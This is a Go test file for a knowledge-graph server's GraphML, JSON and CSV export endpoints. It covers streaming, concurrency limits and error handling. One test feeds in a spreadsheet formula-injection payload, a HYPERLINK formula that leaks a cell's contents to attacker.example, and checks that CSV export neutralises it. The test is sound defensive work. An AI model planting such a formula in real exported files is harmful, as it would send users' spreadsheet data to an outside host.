package server_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"io"
	"log/slog"
	"mime"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/diplograph/diplograph/internal/export"
	"github.com/diplograph/diplograph/internal/graphgen"
	"github.com/diplograph/diplograph/internal/kg"
	"github.com/diplograph/diplograph/internal/memstore"
	"github.com/diplograph/diplograph/internal/server"
	"github.com/diplograph/diplograph/internal/storetest"
)

// graphMLDocument is what a GraphML reader sees of an export.
type graphMLDocument struct {
	XMLName xml.Name            `xml:"http://graphml.graphdrawing.org/xmlns graphml"`
	Keys    []export.GraphMLKey `xml:"key"`
	Graph   struct {
		EdgeDefault string               `xml:"edgedefault,attr"`
		Nodes       []export.GraphMLNode `xml:"node"`
		Edges       []export.GraphMLEdge `xml:"edge"`
	} `xml:"graph"`
}

// value returns the value of the attribute named name (for "node" or "edge") of data.
func (d *graphMLDocument) value(t *testing.T, kind, name string, data []export.GraphMLData) string {
	t.Helper()
	var id string
	for _, k := range d.Keys {
		if k.For == kind && k.Name == name {
			id = k.ID
		}
	}
	if id == "" {
		t.Fatalf("GraphML declares no %s attribute %q", kind, name)
	}
	for _, v := range data {
		if v.Key == id {
			return v.Value
		}
	}
	return ""
}

// storeContents reads every entity and relation of s through the Store interface: what an export
// of the whole graph must hold.
func storeContents(t *testing.T, s kg.Store) (map[string]*kg.Entity, map[string]*kg.Relation) {
	t.Helper()
	entities := map[string]*kg.Entity{}
	var ids []string
	for _, k := range kg.Kinds {
		page, err := s.ListEntities(t.Context(), kg.ListQuery{Kind: k, Limit: kg.NoLimit})
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range page.Entities {
			entities[e.ID] = e
			ids = append(ids, e.ID)
		}
	}
	rels, err := s.Relations(t.Context(), kg.RelationQuery{IDs: ids, Direction: kg.Out, Limit: kg.NoLimit})
	if err != nil {
		t.Fatal(err)
	}
	relations := map[string]*kg.Relation{}
	for _, rs := range rels {
		for _, r := range rs {
			relations[r.Type+" "+r.From+" "+r.To] = r
		}
	}
	return entities, relations
}

func get(t *testing.T, h http.Handler, path string) *httptest.ResponseRecorder {
	t.Helper()
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, path, nil))
	return rec
}

// checkDownload fails unless rec is a 200 download of the content type and file name wanted.
func checkDownload(t *testing.T, rec *httptest.ResponseRecorder, contentType, filename string) {
	t.Helper()
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d, want 200: %s", rec.Code, rec.Body.String())
	}
	if ct := rec.Header().Get("Content-Type"); !strings.HasPrefix(ct, contentType) {
		t.Errorf("Content-Type = %q, want %s", ct, contentType)
	}
	disposition, params, err := mime.ParseMediaType(rec.Header().Get("Content-Disposition"))
	if err != nil || disposition != "attachment" || params["filename"] != filename {
		t.Errorf("Content-Disposition = %q, want an attachment named %s", rec.Header().Get("Content-Disposition"), filename)
	}
}

func joinQuotes(cs []kg.Citation) string {
	var qs []string
	for _, c := range cs {
		qs = append(qs, c.Quote)
	}
	return strings.Join(qs, "\n")
}

func testExports(t *testing.T, s kg.Store) {
	h := server.New(server.Config{}, s, slog.New(slog.NewTextHandler(io.Discard, nil)))
	entities, relations := storeContents(t, s)

	t.Run("graphml of the whole graph", func(t *testing.T) {
		rec := get(t, h, "/export?format=graphml")
		checkDownload(t, rec, "application/graphml+xml", "diplograph-graph.graphml")
		var doc graphMLDocument
		if err := xml.Unmarshal(rec.Body.Bytes(), &doc); err != nil {
			t.Fatalf("the GraphML does not parse: %v", err)
		}
		if doc.Graph.EdgeDefault != "directed" || len(doc.Graph.Nodes) != len(entities) || len(doc.Graph.Edges) != len(relations) {
			t.Fatalf("GraphML has %d nodes and %d edges (%q), want %d and %d, directed",
				len(doc.Graph.Nodes), len(doc.Graph.Edges), doc.Graph.EdgeDefault, len(entities), len(relations))
		}
		for _, n := range doc.Graph.Nodes {
			e := entities[n.ID]
			if e == nil {
				t.Errorf("GraphML node %s is not in the store", n.ID)
				continue
			}
			if doc.value(t, "node", "kind", n.Data) != string(e.Kind) || doc.value(t, "node", "name", n.Data) != e.Name ||
				doc.value(t, "node", "label", n.Data) != e.Name || doc.value(t, "node", "citations", n.Data) != joinQuotes(e.Citations) {
				t.Errorf("GraphML node %s = %+v, want kind %s, name %q and its quotes", n.ID, n.Data, e.Kind, e.Name)
			}
		}
		seen := map[string]bool{}
		for _, ed := range doc.Graph.Edges {
			typ := doc.value(t, "edge", "type", ed.Data)
			key := typ + " " + ed.Source + " " + ed.Target
			r := relations[key]
			if r == nil || seen[key] || seen[ed.ID] {
				t.Errorf("GraphML edge %s (%s) is not a relation of the store, or is there twice", ed.ID, key)
				continue
			}
			seen[key], seen[ed.ID] = true, true
			if doc.value(t, "edge", "citations", ed.Data) != joinQuotes(r.Citations) || doc.value(t, "edge", "label", ed.Data) != r.Type {
				t.Errorf("GraphML edge %s = %+v, want its type and quotes", key, ed.Data)
			}
		}
	})

	t.Run("cytoscape json of the whole graph", func(t *testing.T) {
		rec := get(t, h, "/export?format=json")
		checkDownload(t, rec, "application/json", "diplograph-graph.json")
		var doc export.CytoscapeDocument
		dec := json.NewDecoder(rec.Body)
		dec.DisallowUnknownFields()
		if err := dec.Decode(&doc); err != nil {
			t.Fatalf("the JSON does not parse as Cytoscape elements: %v", err)
		}
		if len(doc.Elements.Nodes) != len(entities) || len(doc.Elements.Edges) != len(relations) {
			t.Fatalf("JSON has %d nodes and %d edges, want %d and %d", len(doc.Elements.Nodes), len(doc.Elements.Edges), len(entities), len(relations))
		}
		for _, n := range doc.Elements.Nodes {
			e := entities[n.Data.ID]
			if e == nil || n.Data.Label != e.Name || n.Data.Kind != e.Kind || !kg.EqualCitations(n.Data.Citations, e.Citations) {
				t.Errorf("JSON node %+v, want the store's %+v", n.Data, e)
			}
		}
		ids := map[string]bool{}
		for _, ed := range doc.Elements.Edges {
			r := relations[ed.Data.Type+" "+ed.Data.Source+" "+ed.Data.Target]
			if r == nil || ids[ed.Data.ID] || ed.Data.Label != r.Type || !kg.EqualCitations(ed.Data.Citations, r.Citations) {
				t.Errorf("JSON edge %+v is not a relation of the store with its quotes, or its id is taken", ed.Data)
			}
			ids[ed.Data.ID] = true
			if entities[ed.Data.Source] == nil || entities[ed.Data.Target] == nil {
				t.Errorf("JSON edge %s joins elements that are not nodes", ed.Data.ID)
			}
		}
	})

	t.Run("csv of the whole graph", func(t *testing.T) {
		rec := get(t, h, "/export?format=csv")
		checkDownload(t, rec, "text/csv", "diplograph-graph.csv")
		rows, err := csv.NewReader(rec.Body).ReadAll()
		if err != nil {
			t.Fatalf("the CSV does not parse: %v", err)
		}
		if len(rows) != len(relations)+1 || !slices.Equal(rows[0], export.CSVHeader) {
			t.Fatalf("CSV has %d rows, header %q; want %d relations under %q", len(rows), rows[0], len(relations), export.CSVHeader)
		}
		for _, row := range rows[1:] {
			r := relations[row[2]+" "+row[0]+" "+row[3]]
			if r == nil {
				t.Errorf("CSV row %q is not a relation of the store", row)
				continue
			}
			c := r.Citations[0]
			want := []string{r.From, entities[r.From].Name, r.Type, r.To, entities[r.To].Name, c.Quote, c.Source, string(c.Basis.Or()), c.Note}
			if !slices.Equal(row, want) {
				t.Errorf("CSV row = %q, want %q", row, want)
			}
		}
	})

	t.Run("a neighborhood", func(t *testing.T) {
		g, err := s.Neighborhood(t.Context(), kg.NeighborhoodQuery{ID: plenary, Hops: 2, Limit: kg.MaxNeighborhoodNodes})
		if err != nil {
			t.Fatal(err)
		}
		rec := get(t, h, "/export?format=json&id="+plenary+"&hops=2")
		checkDownload(t, rec, "application/json", "diplograph-meeting-21cb-esc-14th-plenary-2hop.json")
		var doc export.CytoscapeDocument
		if err := json.Unmarshal(rec.Body.Bytes(), &doc); err != nil {
			t.Fatal(err)
		}
		var nodes, edges, wantNodes, wantEdges []string
		for _, n := range doc.Elements.Nodes {
			nodes = append(nodes, n.Data.ID)
		}
		for _, e := range doc.Elements.Edges {
			edges = append(edges, e.Data.Type+" "+e.Data.Source+" "+e.Data.Target)
		}
		for _, e := range g.Nodes {
			wantNodes = append(wantNodes, e.ID)
		}
		for _, r := range g.Relations {
			wantEdges = append(wantEdges, r.Type+" "+r.From+" "+r.To)
		}
		if !slices.Equal(nodes, wantNodes) || !slices.Equal(edges, wantEdges) || len(nodes) >= len(entities) || len(nodes) < 20 {
			t.Errorf("neighborhood export = %q %q, want the store's neighborhood %q %q", nodes, edges, wantNodes, wantEdges)
		}

		rec = get(t, h, "/export?format=graphml&id="+poynter)
		checkDownload(t, rec, "application/graphml+xml", "diplograph-person-rachel-poynter-1hop.graphml")
		var gml graphMLDocument
		if err := xml.Unmarshal(rec.Body.Bytes(), &gml); err != nil || len(gml.Graph.Nodes) != 3 || len(gml.Graph.Edges) != 3 {
			t.Errorf("GraphML of Poynter's neighborhood = %d nodes, %d edges (%v), want her, her government, the plenary and the 3 relations between them", len(gml.Graph.Nodes), len(gml.Graph.Edges), err)
		}
		rec = get(t, h, "/export?format=csv&id="+poynter+"&hops=1")
		rows, err := csv.NewReader(rec.Body).ReadAll()
		if err != nil || len(rows) != 4 || rows[1][1] != "Rachel Poynter" || rows[3][4] != "14th Plenary Meeting of the 21CB Executive Steering Committee" {
			t.Errorf("CSV of Poynter's neighborhood = %q (%v), want the 3 relations of her, her government and the plenary", rows, err)
		}
	})

	t.Run("bad requests", func(t *testing.T) {
		for _, tc := range []struct {
			path   string
			status int
			code   string
		}{
			{"/export", http.StatusBadRequest, kg.CodeBadUserInput},
			{"/export?format=pdf", http.StatusBadRequest, kg.CodeBadUserInput},
			{"/export?format=GRAPHML", http.StatusBadRequest, kg.CodeBadUserInput},
			{"/export?format=json&id=meeting:none", http.StatusNotFound, kg.CodeNotFound},
			{"/export?format=json&id=", http.StatusBadRequest, kg.CodeBadUserInput},
			{"/export?format=json&id=" + plenary + "&hops=4", http.StatusBadRequest, kg.CodeBadUserInput},
			{"/export?format=json&id=" + plenary + "&hops=two", http.StatusBadRequest, kg.CodeBadUserInput},
			{"/export?format=json&hops=2", http.StatusBadRequest, kg.CodeBadUserInput},
		} {
			rec := get(t, h, tc.path)
			var body gqlResponse
			if err := json.Unmarshal(rec.Body.Bytes(), &body); err != nil || rec.Code != tc.status || len(body.Errors) != 1 ||
				body.Errors[0].Extensions["code"] != tc.code || body.Errors[0].Message == "" {
				t.Errorf("GET %s = %d %s, want %d with code %s", tc.path, rec.Code, rec.Body.String(), tc.status, tc.code)
			}
			if ct := rec.Header().Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
				t.Errorf("GET %s: Content-Type %q, want application/json", tc.path, ct)
			}
		}
	})
}

// gated is a store whose ListEntities waits, for every page after the first, until open is
// closed: a store that is slow to produce the rest of a graph.
type gated struct {
	kg.Store
	open chan struct{}
}

func (g *gated) ListEntities(ctx context.Context, q kg.ListQuery) (*kg.EntityPage, error) {
	if q.Offset > 0 {
		select {
		case <-g.open:
		case <-ctx.Done():
			return nil, ctx.Err()
		}
	}
	return g.Store.ListEntities(ctx, q)
}

// TestExportStreams checks that an export sends the first page of the graph before it has read
// the rest from the store, and pages through the store rather than reading it whole.
func TestExportStreams(t *testing.T) {
	b := graphgen.Generate(3000)
	ms, err := memstore.Load(b)
	if err != nil {
		t.Fatal(err)
	}
	counting := storetest.NewCounting(ms)
	store := &gated{Store: counting, open: make(chan struct{})}
	srv := httptest.NewServer(server.New(server.Config{}, store, slog.New(slog.NewTextHandler(io.Discard, nil))))
	defer srv.Close()

	res, err := http.Get(srv.URL + "/export?format=json")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	// The first page of entities arrives while the store still holds back the second.
	first := make([]byte, 4096)
	read := make(chan error, 1)
	go func() {
		_, err := io.ReadFull(res.Body, first)
		read <- err
	}()
	select {
	case err := <-read:
		if err != nil {
			t.Fatalf("reading the start of the export: %v", err)
		}
	case <-time.After(30 * time.Second):
		close(store.open)
		t.Fatalf("no byte of the export arrived before the store gave its second page: the export does not stream")
	}
	close(store.open)
	rest, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	var doc export.CytoscapeDocument
	if err := json.NewDecoder(io.MultiReader(bytes.NewReader(first), bytes.NewReader(rest))).Decode(&doc); err != nil {
		t.Fatalf("the streamed export does not parse: %v", err)
	}
	if len(doc.Elements.Nodes) != len(b.Entities) || len(doc.Elements.Edges) != len(b.Relations) {
		t.Errorf("streamed export has %d nodes and %d edges, want %d and %d", len(doc.Elements.Nodes), len(doc.Elements.Edges), len(b.Entities), len(b.Relations))
	}
	calls := counting.Calls()
	if calls["ListEntities"] <= 2*len(kg.Kinds) || calls["Relations"] < len(kg.Kinds) {
		t.Errorf("store calls = %v, want pages of entities (more than one page for the big kinds) and of relations", calls)
	}
}

// TestExportCSVNeutralizesFormulas exports, over HTTP, a graph whose names and quotes start like
// spreadsheet formulas (they come from outside documents) and checks that every such cell of the
// CSV starts with ', as OWASP advises, while the other formats keep the text as it is.
func TestExportCSVNeutralizesFormulas(t *testing.T) {
	const text = `=HYPERLINK("http://attacker.example/?leak="&A1,"Minutes") @SUM(1+1) -2+3 was noted.`
	b := &kg.Bundle{
		Sources: []kg.Source{{ID: "source:hostile", Title: "Hostile", Text: text}},
		Entities: []kg.Entity{
			{ID: "person:at", Kind: kg.KindPerson, Name: "@SUM(1+1)",
				Citations: []kg.Citation{{Source: "source:hostile", Quote: "@SUM(1+1)"}}},
			{ID: "meeting:minus", Kind: kg.KindMeeting, Name: "-2+3 meeting",
				Citations: []kg.Citation{{Source: "source:hostile", Quote: "-2+3 was noted"}}},
		},
		Relations: []kg.Relation{{Type: kg.RelAttended, From: "person:at", To: "meeting:minus", Properties: map[string]any{"role": "MEMBER"},
			Citations: []kg.Citation{{Source: "source:hostile", Quote: `=HYPERLINK("http://attacker.example/?leak="&A1,"Minutes")`,
				Basis: kg.BasisInferred, Note: "+1 for the minutes"}}}},
	}
	ms, err := memstore.Load(b)
	if err != nil {
		t.Fatal(err)
	}
	h := server.New(server.Config{}, ms, slog.New(slog.NewTextHandler(io.Discard, nil)))
	rec := get(t, h, "/export?format=csv")
	checkDownload(t, rec, "text/csv", "diplograph-graph.csv")
	rows, err := csv.NewReader(rec.Body).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v", err)
	}
	want := []string{"person:at", "'@SUM(1+1)", kg.RelAttended, "meeting:minus", "'-2+3 meeting",
		`'=HYPERLINK("http://attacker.example/?leak="&A1,"Minutes")`, "source:hostile", string(kg.BasisInferred), "'+1 for the minutes"}
	if len(rows) != 2 || !slices.Equal(rows[1], want) {
		t.Fatalf("CSV rows = %q, want the header and %q", rows, want)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts like a formula", cell)
			}
		}
	}
	// JSON and GraphML are read as data, never as formulas: the text stays as the source has it.
	rec = get(t, h, "/export?format=json")
	var doc export.CytoscapeDocument
	if err := json.Unmarshal(rec.Body.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	if e := doc.Elements.Edges; len(e) != 1 || len(e[0].Data.Citations) != 1 || e[0].Data.Citations[0].Quote != b.Relations[0].Citations[0].Quote {
		t.Errorf("JSON edges = %+v, want the quote as written", e)
	}
}

// TestExportsOfTheWholeGraphAreBounded holds two exports of the whole graph in progress (the
// store holds back their second page) and checks that a third is refused at once with 429,
// Retry-After and COST_LIMIT, and that exports run again once those two are done.
func TestExportsOfTheWholeGraphAreBounded(t *testing.T) {
	ms, err := memstore.Load(graphgen.Generate(3000))
	if err != nil {
		t.Fatal(err)
	}
	store := &gated{Store: ms, open: make(chan struct{})}
	srv := httptest.NewServer(server.New(server.Config{MaxGraphExports: 2}, store, slog.New(slog.NewTextHandler(io.Discard, nil))))
	defer srv.Close()

	var running []*http.Response
	for range 2 {
		// JSON, whose first page of nodes reaches the client while the second is held back.
		res, err := http.Get(srv.URL + "/export?format=json")
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		if res.StatusCode != http.StatusOK {
			t.Fatalf("export while under the limit: status %d", res.StatusCode)
		}
		running = append(running, res)
	}
	res, err := http.Get(srv.URL + "/export?format=json")
	if err != nil {
		t.Fatal(err)
	}
	var body struct {
		Errors []struct {
			Message    string
			Extensions map[string]any
		}
	}
	_ = json.NewDecoder(res.Body).Decode(&body)
	res.Body.Close()
	if res.StatusCode != http.StatusTooManyRequests || res.Header.Get("Retry-After") == "" ||
		len(body.Errors) != 1 || body.Errors[0].Extensions["code"] != kg.CodeCostLimit {
		t.Errorf("a third export = %d (Retry-After %q) %+v, want 429 with Retry-After and COST_LIMIT",
			res.StatusCode, res.Header.Get("Retry-After"), body.Errors)
	}
	// A neighbourhood is bounded by itself and is not counted.
	if res, err := http.Get(srv.URL + "/export?format=csv&id=" + graphgen.Generate(3000).Entities[0].ID); err != nil || res.StatusCode != http.StatusOK {
		t.Errorf("a neighbourhood export while two whole ones run: %v %v", err, res)
	} else {
		res.Body.Close()
	}

	close(store.open)
	for _, res := range running {
		if _, err := io.Copy(io.Discard, res.Body); err != nil {
			t.Fatal(err)
		}
	}
	// The slots come back once the handlers have returned; Go's server returns them right after
	// the body ends, so a few tries within a deadline are expected.
	deadline := time.Now().Add(30 * time.Second)
	for {
		res, err := http.Get(srv.URL + "/export?format=csv")
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.Copy(io.Discard, res.Body); err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if res.StatusCode == http.StatusOK {
			break
		}
		if res.StatusCode != http.StatusTooManyRequests || time.Now().After(deadline) {
			t.Fatalf("export after the others ended: status %d", res.StatusCode)
		}
		time.Sleep(10 * time.Millisecond)
	}
}
